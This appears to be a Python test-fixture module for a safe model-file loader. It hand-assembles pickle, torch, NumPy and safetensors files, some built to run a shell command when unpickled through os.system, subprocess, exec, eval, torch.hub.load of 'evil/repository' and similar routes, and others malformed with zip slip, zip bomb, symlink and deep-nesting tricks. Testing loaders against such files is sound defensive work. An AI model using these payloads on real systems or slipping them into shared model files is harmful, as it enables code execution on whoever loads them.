"""Model files that would do harm, or make no sense: written instruction by instruction, without the library that reads
them. `ATTACKS` would each create a file if it were unpickled; `MALFORMED` are refused for what they are."""

import io
import json
import pickle
import stat
import struct
import warnings
import zipfile
from collections.abc import Callable
from typing import Any

import numpy as np


class Code(bytes):
    """Instructions of a pickle that put one value on the stack."""


def code(value: Any) -> Code:
    """A value as the instructions of protocol 2, and bytes as those of protocol 3."""
    match value:
        case Code():
            return value
        case None | True | False:
            return Code({None: b"N", True: b"\x88", False: b"\x89"}[value])
        case int():
            return Code(b"I%d\n" % value)
        case float():
            return Code(b"G" + struct.pack(">d", value))
        case str():
            return Code(b"X" + struct.pack("<I", len(value.encode())) + value.encode())
        case bytes():
            return Code(b"B" + struct.pack("<I", len(value)) + value)
        case tuple():
            return Code(b"(" + b"".join(map(code, value)) + b"t")
        case list():
            return Code(b"](" + b"".join(map(code, value)) + b"e")
        case dict():
            return Code(b"}(" + b"".join(code(part) for pair in value.items() for part in pair) + b"u")
    raise TypeError(value)


def name(module: str, attribute: str) -> Code:
    return Code(f"c{module}\n{attribute}\n".encode())


def call(maker: Code, *given: Any) -> Code:
    return Code(maker + code(given) + b"R")


def whole(value: Any) -> bytes:
    return b"\x80\x02" + code(value) + b"."


def storage(key: str = "0", count: int = 4, kind: str = "FloatStorage", module: str = "torch") -> Code:
    return Code(code(("storage", name(module, kind), key, "cpu", count)) + b"Q")


def tensor(of: Code, shape: Any = (4,), strides: Any = (1,), offset: Any = 0) -> Code:
    return call(name("torch._utils", "_rebuild_tensor_v2"), of, offset, shape, strides, False, call(ORDERED))


ORDERED = name("collections", "OrderedDict")
GOOD = tensor(storage())
NUMBERS = np.arange(4, dtype="<f4").tobytes()


def archive(value: Any = None, storages: dict[str, bytes] | None = None, **more: bytes) -> bytes:
    """An archive of torch with one storage of four numbers. more: other members, / as __."""
    members = {"data.pkl": whole({"w": GOOD} if value is None else value), "byteorder": b"little", "version": b"3\n"}
    members |= {f"data/{key}": body for key, body in ({"0": NUMBERS} if storages is None else storages).items()}
    members |= {n.replace("__", "/"): body for n, body in more.items()}
    return zipped({f"net/{n}": body for n, body in members.items()})


def zipped(members: dict[Any, bytes], kind: int = zipfile.ZIP_STORED) -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", kind) as made:
        for member, body in members.items():
            made.writestr(member, body)
    return file.getvalue()


MAGIC, VERSION = 0x1950A86A20F9469CFC6C, 1001
ABOUT = {"protocol_version": VERSION, "little_endian": True, "type_sizes": {"int": 4}}


def stream(
    value: Any = None, storages: dict[str, bytes] | None = None, *, about: Any = None, keys: Any = None, width: int = 4
) -> bytes:
    """A stream of torch before 1.6, with one storage of four numbers."""
    bodies = {"0": NUMBERS} if storages is None else storages
    root = {"w": Code(GOOD.replace(b"tQ", b"NtQ"))} if value is None else value
    head = [b"\x80\x02\x8a\x0a" + MAGIC.to_bytes(10, "little") + b".", whole(VERSION), whole(about or ABOUT)]
    tail = [struct.pack("<q", len(body) // width) + body for body in bodies.values()]
    return b"".join([*head, whole(root), whole(list(bodies) if keys is None else keys), *tail])


def tensors(header: Any, body: bytes = NUMBERS) -> bytes:
    """A file of safetensors."""
    text = header if isinstance(header, bytes) else json.dumps(header).encode()
    return struct.pack("<Q", len(text)) + text + body


# ---- attacks: each gets a shell command that would leave a mark, and the same in Python

Attack = Callable[[str, str], bytes]
SYSTEM = name("os", "system")


class Evil:
    def __init__(self, command: str):
        self.command = command

    def __reduce__(self):
        import os

        return os.system, (self.command,)


def of_reduce(module: str, attribute: str, *given: Any, python: bool = False) -> Attack:
    """A call of a name with a command, and what may come after it."""
    return lambda shell, text: whole(call(name(module, attribute), text if python else shell, *given))


def imported(module: str) -> Code:
    return call(name("importlib", "import_module"), module)


def by_getattr(shell: str, text: str) -> bytes:
    found = call(name("builtins", "getattr"), imported("os"), "system")
    return whole(call(found, shell))


def by_memo(shell: str, text: str) -> bytes:
    words = b"](\x8c\x02os\x94\x8c\x06system\x94e"  # both in the memo; taken from there by number
    return b"\x80\x04" + words + b"h\x00h\x01\x93" + code((shell,)) + b"R\x86."


def by_partial(shell: str, text: str) -> bytes:
    """`__setstate__` of a partial, which takes any function."""
    made = name("functools", "partial") + code((name("builtins", "len"),)) + b"\x81"
    return b"\x80\x02" + made + code((SYSTEM, (shell,), {}, None)) + b"b)R."


def by_new(shell: str, text: str) -> bytes:
    """Nothing but `__new__`: a tuple of a map calls as it is filled."""
    mapped = Code(name("builtins", "map") + code((SYSTEM, [shell])) + b"\x81")
    return b"\x80\x02" + name("builtins", "tuple") + code((mapped,)) + b"\x81."


def by_object_array(shell: str, text: str) -> bytes:
    return pickle.dumps({"w": np.array([Evil(shell)], dtype=object)}, 2)


def by_npy(shell: str, text: str) -> bytes:
    file = io.BytesIO()
    np.save(file, np.array([Evil(shell)], dtype=object), allow_pickle=True)
    return file.getvalue()


def by_whole_network(shell: str, text: str) -> bytes:
    """A network whose state holds something that is made by a call."""
    state = {"_parameters": {"w": None}, "_buffers": {}, "_modules": {}, "hook": call(SYSTEM, shell)}
    return b"\x80\x02" + name("types", "SimpleNamespace") + b")\x81" + code(state) + b"b."


def attack_in_stored_bytes(shell: str, text: str) -> bytes:
    return whole({"w": tensor(call(name("torch.storage", "_load_from_bytes"), whole(call(SYSTEM, shell))))})


PICKLED: dict[str, Attack] = {
    "os.system": of_reduce("os", "system"),
    "posix.system": of_reduce("posix", "system"),
    "os.popen": of_reduce("os", "popen"),
    "subprocess.Popen": of_reduce("subprocess", "Popen", -1, None, None, None, None, None, False, True),
    "subprocess.getoutput": of_reduce("subprocess", "getoutput"),
    "exec": of_reduce("builtins", "exec", python=True),
    "eval": of_reduce("__builtin__", "eval", python=True),
    "timeit": lambda shell, text: whole(call(name("timeit", "main"), ["-n1", "-r1", text])),
    "cProfile": of_reduce("cProfile", "run", python=True),
    "getattr": by_getattr,
    "memo": by_memo,
    "setstate": by_partial,
    "new": by_new,
    "INST": lambda shell, text: b"\x80\x02(" + code(shell) + b"ios\nsystem\n.",
    "OBJ": lambda shell, text: b"\x80\x02(" + SYSTEM + code(shell) + b"o.",
    "attrgetter": lambda shell, text: whole(
        call(call(call(name("operator", "attrgetter"), "system"), imported("os")), shell)
    ),
    "partial": lambda shell, text: whole(call(call(name("functools", "partial"), SYSTEM, shell))),
    "methodcaller": lambda shell, text: whole(
        call(call(name("operator", "methodcaller"), "system", shell), imported("os"))
    ),
    "nested pickle": lambda shell, text: whole(call(name("pickle", "loads"), whole(call(SYSTEM, shell)))),
    "object array": by_object_array,
    "network": by_whole_network,
    "among tensors": lambda shell, text: whole({"w": [1.0], "x": call(SYSTEM, shell)}),
    "as a key": lambda shell, text: whole({call(SYSTEM, shell): 1.0}),
    "before the end": lambda shell, text: b"\x80\x02" + call(SYSTEM, shell) + b"0" + code({}) + b".",
    "dotted": lambda shell, text: b"\x80\x04" + code("os") + code("system.__call__") + b"\x93" + code((shell,)) + b"R.",
    "list of a map": lambda shell, text: whole(
        call(name("builtins", "list"), call(name("builtins", "map"), SYSTEM, [shell]))
    ),
    "NEWOBJ_EX": lambda shell, text: b"\x80\x04"
    + name("subprocess", "Popen") + code(()) + code({}) + b"\x92" + b"0" + call(SYSTEM, shell) + b".",
}  # fmt: skip
ATTACKS: dict[str, Attack] = PICKLED | {
    ".npy": by_npy,
    ".npz": lambda shell, text: zipped({"a.npy": by_npy(shell, text)}),
    "archive": lambda shell, text: archive({"w": GOOD, "x": call(SYSTEM, shell)}),
    "archive, storage of a call": lambda shell, text: archive({"w": tensor(call(SYSTEM, shell))}),
    "archive, type of a call": lambda shell, text: archive(
        {"w": tensor(Code(code(("storage", call(SYSTEM, shell), "0", "cpu", 4)) + b"Q"))}
    ),
    "archive, hooks": lambda shell, text: archive(
        {"w": call(name("torch._utils", "_rebuild_tensor_v2"), storage(), 0, (4,), (1,), False, call(SYSTEM, shell))}
    ),
    "stream": lambda shell, text: stream({"w": call(SYSTEM, shell)}),
    "stream, about": lambda shell, text: stream(about={"little_endian": call(SYSTEM, shell)}),
    "stream, keys": lambda shell, text: stream(keys=[call(SYSTEM, shell)]),
    "stream, before": lambda shell, text: whole(call(SYSTEM, shell)) + stream(),
    "stored bytes": attack_in_stored_bytes,
    "torch.load": lambda shell, text: whole(call(name("torch.serialization", "load"), "evil.pth")),
    "torch.hub": lambda shell, text: whole(call(name("torch.hub", "load"), "evil/repository", "evil")),
    "type of tensor": lambda shell, text: archive(
        {"w": call(name("torch._tensor", "_rebuild_from_type_v2"), SYSTEM, shell, (), {})}
    ),
    "TorchScript": lambda shell, text: archive(code__net=text.encode()),
}  # fmt: skip


# ---- what makes no sense: the file, and a word of what is said of it


def views(**changes: Any) -> bytes:
    return archive({"w": tensor(storage(), **changes)})


def nested(begin: bytes, each: bytes, n: int = 400_000) -> bytes:
    return b"\x80\x02" + begin + each * n + b"."


def laughs(levels: int = 60) -> bytes:
    """Each dictionary holds the one before twice: 2⁶⁰ ways to the innermost."""
    made = b"\x80\x02}(" + code("0") + code({"w": 1}) + b"q\x00"
    for k in range(levels):
        get = b"h" + bytes([k])
        made += code(str(k + 1)) + b"}(" + code("a") + get + code("b") + get + b"uq" + bytes([k + 1])
    return made + b"u."


def patched(content: bytes, old: bytes, new: bytes) -> bytes:
    assert old in content
    assert len(old) == len(new)
    return content.replace(old, new)


def flagged(content: bytes) -> bytes:
    """An archive whose members say that they are encrypted."""
    made = bytearray(content)
    for mark, at in ((b"PK\3\4", 6), (b"PK\1\2", 8)):
        place = made.find(mark)
        while place >= 0:
            made[place + at] |= 1
            place = made.find(mark, place + 4)
    return bytes(made)


def linked() -> bytes:
    link = zipfile.ZipInfo("net/data/0")
    link.external_attr = (stat.S_IFLNK | 0o777) << 16
    return zipped({"net/data.pkl": whole({"w": GOOD}), link: b"/etc/passwd"})


def twice() -> bytes:
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        file = io.BytesIO(archive())
        with zipfile.ZipFile(file, "a") as made:
            made.writestr("net/data/0", NUMBERS)
    return file.getvalue()


def overlapping() -> bytes:
    """Many entries of the directory lead to one member: a bomb that is not compressed."""
    content = zipped({"net/data.pkl": whole({"w": GOOD}), "net/data/0": bytes(100_000)})
    with zipfile.ZipFile(io.BytesIO(content)) as made:
        at = made.start_dir
    first, entry = content[at:], content[content.rfind(b"PK\1\2") : content.rfind(b"PK\5\6")]
    more = b"".join(patched(entry, b"data/0", f"data/{k}".encode()) for k in range(1, 10))
    end = bytearray(first[first.rfind(b"PK\5\6") :])
    entries = first[: first.rfind(b"PK\5\6")] + more
    struct.pack_into("<HHI", end, 8, 11, 11, len(entries))
    return content[:at] + entries + bytes(end)


def shared() -> bytes:
    """A thousand views of one storage."""
    return archive(
        {f"w{k}": tensor(storage(count=40_000), shape=(40_000,)) for k in range(1_000)}, {"0": bytes(160_000)}
    )


def numpy_array(
    shape: Any = (2,), kind: Any = "f4", order: str = "<", body: Any = bytes(8), fortran: Any = False
) -> bytes:
    made = call(name("numpy.core.multiarray", "_reconstruct"), name("numpy", "ndarray"), (0,), b"b")
    dtype = Code(call(name("numpy", "dtype"), kind, False, True) + code((3, order, None, None, None, -1, -1, 0)) + b"b")
    return whole({"w": Code(made + code((1, shape, dtype, False, body)) + b"b")})


FLOATS = {"dtype": "F32", "shape": [4], "data_offsets": [0, 16]}

MALFORMED: dict[str, tuple[bytes, str]] = {
    "empty": (b"", "neither"),
    "text": (b"this is no model, whatever its name says\n" * 9, "neither"),
    "old pickle": (b"(dp0\n.", "neither"),
    "ONNX": (b"\x08\x07\x12\x07pytorch\x1a\x052.0.0:\xff" + bytes(99), "neither"),
    "HDF5": (b"\x89HDF\r\n\x1a\n" + bytes(99), "neither"),
    "gzip": (b"\x1f\x8b\x08\0" + bytes(99), "neither"),
    "a function": (b"\x80\x02" + name("os", "system") + b".", "no tensors"),
    "a number": (whole(3), "no tensors"),
    "nothing named": (whole([1, 2]), "no tensors"),
    # archives
    "zip slip": (zipped({"net/data.pkl": whole({}), "net/../../evil": b"x"}), "leads out"),
    "absolute": (zipped({"net/data.pkl": whole({}), "/etc/evil": b"x"}), "leads out"),
    "backslash": (zipped({"net/data.pkl": whole({}), "net\\..\\evil": b"x"}), "leads out"),
    "bomb": (zipped({"net/data.pkl": whole({}), "net/data/0": bytes(50_000_000)}, zipfile.ZIP_DEFLATED), "compressed"),
    "overlap": (overlapping(), "larger than the file"),
    "encrypted": (flagged(archive()), "encrypted"),
    "link": (linked(), "is a link"),
    "twice": (twice(), "one name"),
    "no pickle": (zipped({"net/x": b""}), "no data.pkl"),
    "two pickles": (zipped({"a/data.pkl": whole({}), "b/data.pkl": whole({})}), "no data.pkl"),
    "big end": (archive(byteorder=b"big"), "big end"),
    "no storage": (archive(storages={}), "no item named"),
    "storage short": (archive(storages={"0": bytes(12)}), "12 bytes"),
    "storage long": (archive(storages={"0": bytes(20)}), "20 bytes"),
    "checksum": (patched(archive(), NUMBERS, bytes(16)), "CRC"),
    "storage of 2^63": (archive({"w": tensor(storage(count=1 << 63))}), "elements"),
    "storage below 0": (archive({"w": tensor(storage(count=-4))}), "elements"),
    "storage of a class": (archive({"w": tensor(storage(kind="system", module="os"))}), "os system"),
    "quantised": (archive({"w": tensor(storage(kind="QInt8Storage"))}), "QInt8Storage"),
    "no storage given": (archive({"w": tensor(Code(b"N"))}), "without a storage"),
    "pickled storage": (
        archive({"w": tensor(call(name("torch.storage", "_load_from_bytes"), stream()))}), "within its pickle"
    ),
    # views
    "offset below 0": (views(offset=-1), "make no sense"),
    "offset beyond": (views(offset=1), "beyond"),
    "offset of 2^70": (views(offset=1 << 70), "make no sense"),
    "stride below 0": (views(strides=(-1,)), "make no sense"),
    "strides beyond": (views(strides=(2,)), "beyond"),
    "expanded": (views(shape=(1 << 40,), strides=(0,)), "share a place"),
    "overlapping strides": (views(shape=(2, 3), strides=(1, 1)), "share a place"),
    "overflow": (views(shape=(1 << 33, 1 << 33), strides=(1 << 33, 1)), "beyond"),
    "too few strides": (views(shape=(2, 2), strides=(1,)), "make no sense"),
    "shape of floats": (views(shape=(4.0,)), "make no sense"),
    "shape of truths": (views(shape=(True,)), "make no sense"),
    "shape of none": (views(shape=None), "not read"),
    "truths of 2": (archive({"w": tensor(storage(count=16, kind="BoolStorage"), shape=(16,))}), "neither 0 nor 1"),
    "a thousand views": (shared(), "larger than the file"),
    # pickles
    "tuples in tuples": (nested(b")", b"\x85"), "no tensors"),
    "lists in lists": (b"\x80\x02" + b"]" * 400_000 + b"a" * 399_999 + b".", "no tensors"),
    "dictionaries in dictionaries": (
        b"\x80\x02" + (b"}" + code("a")) * 100_000 + b"N" + b"s" * 100_000 + b".", "too deep"
    ),
    "calls in calls": (b"\x80\x02" + ORDERED * 100_000 + b")" + b"R\x85" * 99_999 + b"R.", "no tensors"),
    "itself": (b"\x80\x02}q\x00" + code("a") + b"h\x00s.", "too deep"),
    "laughs": (laughs(), "without end"),
    "three million": (nested(b"N", b"N0", 1_500_000), "instructions|POP"),
    "many marks": (nested(b"", b"(", 2_000_001), "instructions"),
    "LONG4": (b"\x80\x02\x8b\xff\xff\xff\x7f" + bytes(9), "not enough data"),
    "LONG4 below 0": (b"\x80\x02\x8b\xff\xff\xff\xff" + bytes(9), "damaged|byte count"),
    "BINBYTES8": (b"\x80\x04\x8e\xff\xff\xff\xff\xff\xff\xff\x3f" + bytes(9), "expected|damaged"),
    "digits": (b"\x80\x02I" + b"9" * 100_000 + b"\n.", "limit|digits|damaged"),
    "frame": (b"\x80\x04\x95" + b"\xff" * 8 + b"N.", "no tensors"),
    "EXT1": (b"\x80\x02\x82\x01.", "EXT1"),
    "EXT4": (b"\x80\x02\x84\x01\0\0\0.", "EXT4"),
    "PERSID": (b"\x80\x02Pevil\n.", "PERSID"),
    "BINPERSID": (b"\x80\x02" + code("evil") + b"Q.", "outside"),
    "BINPERSID of a call": (b"\x80\x02" + code(("module", name("os", "system"), "f", "code")) + b"Q.", "outside"),
    "NEXT_BUFFER": (b"\x80\x05\x97.", "NEXT_BUFFER"),
    "REDUCE of text": (b"\x80\x02" + code("os.system") + b")R.", "another call|make no sense|call"),
    "REDUCE of a call": (b"\x80\x02" + call(ORDERED) + b")R.", "another call"),
    "BUILD of text": (b"\x80\x02" + code("x") + b"}b.", "make no sense"),
    "NEWOBJ of text": (b"\x80\x02" + code("x") + b")\x81.", "make no sense"),
    "no mark": (b"\x80\x02NNt.", "make no sense"),
    "nothing": (b"\x80\x02.", "no value, or several"),
    "two values": (b"\x80\x02NN.", "no value, or several"),
    "memo": (b"\x80\x02h\x09.", "make no sense"),
    "odd pairs": (b"\x80\x02}(Nu.", "shorter|longer|damaged"),
    "append to a tuple": (b"\x80\x02)Na.", "make no sense"),
    "instruction": (b"\x80\x02\xff.", "unknown|damaged"),
    "no end": (b"\x80\x02N", "exhausted|cut short"),
    "objects of numpy": (numpy_array(kind="O8", body=[1]), "O8"),
    "array beyond": (numpy_array(shape=(3,)), "beyond"),
    "array of 2^62": (numpy_array(shape=(1 << 61, 2)), "beyond|make no sense"),
    "big end of numpy": (numpy_array(order=">"), "not read"),
    "array of text": (numpy_array(body="12345678"), "without numbers"),
    # streams
    "stream, other version": (patched(stream(), whole(VERSION), whole(1009)), "layout"),
    "stream, big end": (stream(about={**ABOUT, "little_endian": False}), "big end"),
    "stream, cut short": (stream()[:-4], "cut short"),
    "stream, count below 0": (patched(stream(), struct.pack("<q", 4), struct.pack("<q", -4)), "cut short"),
    "stream, count of 2^62": (patched(stream(), struct.pack("<q", 4), struct.pack("<q", 1 << 62)), "cut short"),
    "stream, a key more": (stream(keys=["0", "1"]), "damaged"),
    "stream, storages in storages": (
        stream({"w": Code(GOOD.replace(b"tQ", code(("v", 0, 4)) + b"tQ"))}), "storages within"
    ),
    # safetensors
    "tensors, long header": (struct.pack("<Q", 1 << 62) + b"{}" + bytes(20), "cut short"),
    "tensors, no JSON": (tensors(b'{"w": [[['), "Expecting"),
    "tensors, a list": (struct.pack("<Q", 4) + b"{}[]", "Extra data"),
    "tensors, twice": (tensors(b'{"w": %b, "w": %b}' % ((json.dumps(FLOATS).encode(),) * 2)), "twice"),
    "tensors, beyond": (tensors({"w": {**FLOATS, "data_offsets": [8, 24]}}), "beyond"),
    "tensors, below 0": (tensors({"w": {**FLOATS, "data_offsets": [-8, 8]}}), "beyond"),
    "tensors, backwards": (tensors({"w": {**FLOATS, "data_offsets": [16, 0]}}), "beyond"),
    "tensors, other size": (tensors({"w": {**FLOATS, "shape": [3]}}), "fill"),
    "tensors, shape below 0": (tensors({"w": {**FLOATS, "shape": [-2, -2]}}), "make no sense"),
    "tensors, type": (tensors({"w": {**FLOATS, "dtype": "F31"}}), "not read"),
    "tensors, overflow": (tensors({"w": {**FLOATS, "shape": [1 << 61, 1 << 61, 4]}}), "make no sense"),
    "tensors, one place": (tensors({f"w{k}": FLOATS for k in range(99)}, NUMBERS), "share places"),
    "tensors, a hole": (tensors({"w": {**FLOATS, "data_offsets": [16, 32]}}, bytes(32)), "leave some out"),
    "tensors, an end": (tensors({"w": FLOATS}, bytes(32)), "leave some out"),
    "tensors, nested": (tensors(b'{"w":' + b"[" * 200_000), "damaged|recursion|Expecting"),
    "tensors, none": (tensors({"__metadata__": {"a": "b"}}, b""), "no tensors"),
}  # fmt: skip
